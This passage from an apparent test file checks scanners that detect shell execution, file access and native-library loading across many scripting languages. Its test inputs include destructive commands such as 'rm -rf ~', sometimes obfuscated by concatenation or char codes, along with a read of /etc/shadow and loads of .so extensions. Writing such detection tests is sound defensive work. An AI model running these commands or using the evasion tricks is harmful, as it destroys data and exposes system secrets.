    { code: [{ language: 'python', text: 'import os\nos.system("x")' }] },
  ],
  ['gdb', 'source x.gdb', { loads: ['x.gdb'] }],
  ['gdb', 'attach 1234', { unknown: [/attaches to another process/] }],
  ['gdb', 'call dlopen("/tmp/x.so", 2)', { unknown: [/native library/] }],
  ['gdb', 'document foo\nshell id\nend', {}],
  ['sqlite', '.read x.sql', { loads: ['x.sql'] }],
  ['sqlite', '.load ./x.so', { unknown: [/native library/] }],
  ['sqlite', "select load_extension('x.so');", { unknown: [/native library/] }],
  ['sqlite', "select edit('x');", { unknown: [/editor/] }],
  ['sqlite', '.once -x', { unknown: [/another program/] }],
  ['psql', '\\i setup.sql\n\\ir x.sql', { loads: ['setup.sql', 'x.sql'] }],
  ['psql', '\\setenv PAGER x', { unknown: [/environment variable/] }],
  [
    'psql',
    'CREATE FUNCTION f() RETURNS int AS $$ import os $$ LANGUAGE plpython3u;',
    { unknown: [/untrusted language plpython3u/] },
  ],
  ['mysql', 'source x.sql\n\\. y.sql', { loads: ['x.sql', 'y.sql'] }],
  ['mysql', "INSTALL PLUGIN x SONAME 'x.so';", { unknown: [/native library/] }],
  ['m4', "define(`y', defn(`syscmd'))", { unknown: [/copies a builtin/] }],
  ['elisp', '(load "init.el")', { loads: ['init.el'] }],
  ['elisp', '(eval form)', { unknown: [EVAL] }],
  ['elisp', '(funcall f "id")', { unknown: [/chosen at run time/] }],
  ['elisp', '(intern s)', { unknown: [/only known at run time/] }],
  ['awk', '@load "filefuncs"', { unknown: [/native extension/] }],
  ['awk', '@include "lib.awk"', { loads: ['lib.awk'] }],
  ['dc', '?', { unknown: [/reads from its input/] }],
]);

// ---------------------------------------------------------------------------------------------
// Obfuscation: literal pieces are joined; anything else is unknown

cases('obfuscation', [
  ['lua', 'os.execute("r".."m -rf ~")', { shell: ['rm -rf ~'] }],
  ['lua', '_G["os"]["exe".."cute"]("whoami")', { shell: ['whoami'] }],
  ['lua', 'os[x]("whoami")', { unknown: [/by a name only known at run time/] }],
  ['lua', 'local run = os.execute; run("x")', { unknown: [/indirectly/] }],
  ['lua', 'os.execute(string.char(108, 115))', { shell: ['ls'] }],
  ['lua', 'os.execute("\\108\\115")', { shell: ['ls'] }],
  ['r', 'system(paste0("r", "m -rf ~"))', { shell: ['rm -rf ~'] }],
  ['r', 'system(paste("rm", "-rf", "~"))', { shell: ['rm -rf ~'] }],
  ['r', 'system(sprintf("%s -rf %s", "rm", "~"))', { shell: ['rm -rf ~'] }],
  ['r', 'system(paste0("rm ", home))', { unknown: [DYNAMIC] }],
  ['r', '`system`("ls")', { shell: ['ls'] }],
  ['r', '"ls" |> system()', { shell: ['ls'] }],
  ['r', 'lapply(files, unlink)', { unknown: [/indirectly/] }],
  ['julia', 'run(Cmd(["rm", "x"]))', { argv: [['rm', 'x']] }],
  ['julia', 'println("$(run(`id`))")', { argv: [['id']] }],
  ['julia', 'write("a" * "b.txt", x)', { writes: ['ab.txt'] }],
  ['octave', "[s, out] = system(['r' 'm -rf ~']);", { shell: ['rm -rf ~'] }],
  ['octave', "system(strcat('r', 'm'))", { shell: ['rm'] }],
  ['octave', 'py.os.system("ls")', { shell: ['ls'] }],
  ['octave', 'feval(f, 1)', { unknown: [/chosen at run time/] }],
  ['tcl', '{*}{exec ls}', { argv: [['ls']] }],
  ['tcl', 'rename exec myexec', { unknown: [/renames exec/] }],
  ['tcl', 'after 1000 {exec date}', { argv: [['date']] }],
  ['groovy', '("r" + "m -rf ~").execute()', { argv: [['rm', '-rf', '~']] }],
  ['groovy', '"r" + "m -rf ~".execute()', { argv: [['m', '-rf', '~']] }],
  ['groovy', '"rm ${x}".execute()', { unknown: [DYNAMIC] }],
  ['groovy', '"$cmd"()', { unknown: [/method chosen at run time/] }],
  ['vim', ':call system("rm " . "-rf ~")', { shell: ['rm -rf ~'] }],
  ['vim', ':exe "!rm -rf ~"', { shell: ['rm -rf ~'] }],
  ['vim', ':exe "!r" . "m x"', { shell: ['rm x'] }],
  ['vim', ':call execute("!id")', { shell: ['id'] }],
  ['vim', ':call feedkeys(":!ls\\<CR>")', { shell: ['ls'] }],
  ['vim', ':s/x/\\=system("id")/', { shell: ['id'] }],
  ['vim', ':e +:!ls file', { shell: ['ls'], reads: ['file'] }],
  ['vim', ':set statusline=%{system("id")}', { shell: ['id'] }],
  ['gdb', 'eval "shell ls"', { shell: ['ls'] }],
  ['gdb', 'eval "shell %s", cmd', { unknown: [/built at run time/] }],
  ['sqlite', "select writefile('a' || '.sh', x);", { writes: ['a.sh'] }],
  ['mysql', "/*!50000 select load_file('/etc/shadow') */;", { reads: ['/etc/shadow'] }],
  ['m4', "ifelse(1,1,`sys'`cmd(id)')", { shell: ['id'] }],
  ['m4', "indir(`syscmd', `ls')", { shell: ['ls'] }],
  ['m4', 'changequote([,])syscmd([ls -l])', { shell: ['ls -l'] }],
  ['elisp', '(shell-command (concat "rm " "-rf x"))', { shell: ['rm -rf x'] }],
  ['elisp', '(eval (read "(shell-command \\"id\\")"))', { shell: ['id'] }],
  ['elisp', `(funcall 'shell-command "id")`, { shell: ['id'] }],
  ['elisp', `(apply #'call-process "ls" nil t nil '("-l"))`, { argv: [['ls', '-l']] }],
  ['elisp', "(mapc #'delete-file files)", { unknown: [/indirectly/] }],
  ['awk', 'BEGIN { "ls " "-l" | getline x }', { shell: ['ls -l'] }],
]);

// ---------------------------------------------------------------------------------------------
// Comments and strings are not code

cases('comments and strings', [
  ['lua', '-- os.execute("rm")\nprint("os.execute(\'x\')")', {}],
  ['lua', '--[==[ os.execute("x") ]==] print([[os.remove("y")]])', {}],
  ['r', '# system("rm")\nprint("system(\'rm\')")', {}],
  ['r', 'x <- r"(system("x"))"', {}],
  ['julia', '# run(`rm`)\n#= run(`x`) =#\nprintln("run(`x`)")', {}],
  ['octave', "% system('rm')\n# system('rm')\n%{\nsystem('rm')\n%}\ndisp('system(1)')", {}],
  ['tcl', '# exec rm -rf /\nputs "exec rm"; puts {exec rm -rf /}', {}],
  ['groovy', '// "rm".execute()\n/* Runtime.getRuntime().exec("x") */\nprintln "\'rm\'.execute()"', {}],
  ['vim', '" :!rm -rf ~', {}],
  ['vim', ':echo "a | !rm"', {}],
  ['gdb', '# shell rm -rf x\necho shell rm', {}],
  ['sqlite', "select 'writefile(1)'; -- .shell x\n/* .shell y */ select 2;", {}],
  ['psql', "select ';\\! rm'; -- \\! rm", {}],
  ['mysql', "select 'system ls'; # system ls", {}],
  ['m4', "`syscmd(ls)' # syscmd(x)\ndnl syscmd(y)\n", {}],
  ['elisp', '; (shell-command "x")\n(message "(shell-command \\"x\\")")', {}],
  ['awk', '# system("rm")\n{ print "system(\\"x\\")" } $1 ~ /a\\/b/ { print }', {}],
  ['dc', '# !rm\n1p', {}],
]);

// ---------------------------------------------------------------------------------------------
// Command languages: one command per line, `|` where Vim splits

cases('lines and bars', [
  ['vim', ':w | !ls', { writes: ['%'], shell: ['ls'] }],
  ['vim', ':!ls | wc -l', { shell: ['ls | wc -l'] }],
  ['vim', ':let x = system("id") | echo x', { shell: ['id'] }],
  ['vim', ':a\n!not a command\n.\n:w', { writes: ['%'] }],
  ['vim', ':autocmd BufWritePost * !make', { shell: ['make'] }],
  ['vim', ':normal iHello! world', {}],
  ['vim', ':normal ZZ', { writes: ['%'] }],
  ['sqlite', 'select\n1;\n.shell ls', { shell: ['ls'] }],
  ['sqlite', "select 1,\n  '.shell ls';", {}],
  ['mysql', 'delimiter //\nselect 1//\nsystem id', { shell: ['id'] }],
  ['gdb', 'define foo\nshell id\nend', { shell: ['id'] }],
  ['ed', 'g/x/!ls', { shell: ['ls'] }],
]);

// ---------------------------------------------------------------------------------------------
// Malformed input never throws, and a 1 MiB input finishes

const MALFORMED = [
  '',
  '(',
  ')))',
  '"unterminated',
  "'unterminated",
  '`',
  '[[',
  '{{{',
  '\\',
  '$(',
  '${',
  '\x00\x01\xff\ufffd',
  '\ud800',
  'os.execute(',
  'system(paste0(',
  'exec [',
  ':exe "',
  'syscmd(',
  '(shell-command "x',
  'print > "',
  '!\n!\n!',
  '[!',
];

test('malformed input never throws, in any scanner', () => {
  for (const [language, scan] of Object.entries(SCANNERS)) {
    for (const code of MALFORMED) {
      const got = scan(code);
      assert.ok(
        Array.isArray(got.unknown) && Array.isArray(got.shell),
        `${language}: ${JSON.stringify(code)}`,
      );
    }
  }
});

cases('malformed', [
  ['lua', 'os.execute("unterminated', { shell: ['unterminated'] }],
  ['r', 'system(', {}],
  ['julia', 'run(`echo', { argv: [['echo']] }],
  ['tcl', 'set x {unbalanced', {}],
  ['groovy', 'new File(', {}],
  ['m4', 'syscmd(', {}],
  ['elisp', '(shell-command "unterminated', { shell: ['unterminated'] }],
]);

test('random input never throws', () => {
  let seed = 7;
  const random = () => {
    seed = (seed * 1103515245 + 12345) & 0x7fffffff;
    return seed / 0x7fffffff;
  };
  const alphabet = 'abcsyexm()[]{}"\'`$\\!:;|<>=.,#%@-+*/ \n\tsystem exec run eval ';
  for (let n = 0; n < 400; n++) {
    let code = '';
    const length = Math.floor(random() * 120);
    for (let i = 0; i < length; i++) code += alphabet[Math.floor(random() * alphabet.length)];
    for (const [language, scan] of Object.entries(SCANNERS)) {
      assert.doesNotThrow(() => scan(code), `${language}: ${JSON.stringify(code)}`);
    }
  }
});

test('deep nesting does not overflow the stack', () => {
  const k = 50_000;
  const nested = (open: string, close: string, inner = 'x') => open.repeat(k) + inner + close.repeat(k);
  const generic = [
    nested('f(', ')'),
    nested('[', ']'),
    nested('{', '}'),
    nested('(', ')'),
    nested('"$(', ')"'),
  ];
  const specific: Array<[string, string]> = [
    ['groovy', nested('new File(', ')', '"x"') + '.delete()'],
    ['groovy', 'Files.delete(new File("x")' + '.toPath()'.repeat(k) + ')'],
    ['octave', 'feval(' + "'feval', ".repeat(k) + "'x')"],
    ['elisp', '(funcall ' + "'funcall ".repeat(k) + "'x)"],
    ['elisp', nested('(concat ', ')', '"x"')],
    ['m4', 'indir(' + "`indir', ".repeat(k) + "`x')"],
    ['tcl', nested('[exec ', ']')],
    ['vim', ':silent '.repeat(k) + '!ls'],
    ['r', nested('paste0(', ')', '"x"')],
  ];
  for (const [language, scan] of Object.entries(SCANNERS)) {
    for (const code of generic) assert.doesNotThrow(() => scan(code), language);
  }
  for (const [language, code] of specific) assert.doesNotThrow(() => SCANNERS[language]!(code), language);
});

const MIB = 1 << 20;
const mib = (unit: string) => unit.repeat(Math.ceil(MIB / unit.length)).slice(0, MIB);
const LARGE: Record<string, string> = {
  lua: 'os.execute("x") local t = {f(g(h("a" .. b)))} --[[ c ]] ',
  r: 'system(paste0("a", b)) x <- c(1, 2) # c\n',
  julia: 'run(`ls $x`) println("$(f(1))") #= c =# ',
  octave: "system(['a' 'b']); x = y'; % c\n",
  tcl: 'exec ls [exec id {*}$x] {puts "[a]"}; ',
  groovy: '"ls".execute() new File("a").text /* c */ ',
  vim: ':w | :exe "!ls" | call system("x")\n',
  gdb: 'call system("x")\nshell ls\n',
  sqlite: "select readfile('a');\n.shell ls\n",
  psql: "select 1; \\! ls\nCOPY t TO PROGRAM 'x';\n",
  mysql: "select load_file('a'); system ls\n",
  m4: "ifelse(`a', syscmd(ls), `b')define(x,`y')",
  elisp: '(shell-command (concat "a" b)) ; c\n',
  awk: '{ print $1 > "f"; "date" | getline d } ',
  ed: 'w out\n!ls\n',
  dc: '[!ls]x 1 2 + p\n',
};

for (const [language, unit] of Object.entries(LARGE)) {
  test(`a 1 MiB ${language} input finishes`, () => {
    const got = SCANNERS[language]!(mib(unit));
    assert.ok(Array.isArray(got.unknown));
    // and so do runs of an opening bracket or a quote, the inputs most likely to nest or backtrack
    for (const ch of ['(', '"']) assert.ok(Array.isArray(SCANNERS[language]!(mib(ch)).shell));
  });
}
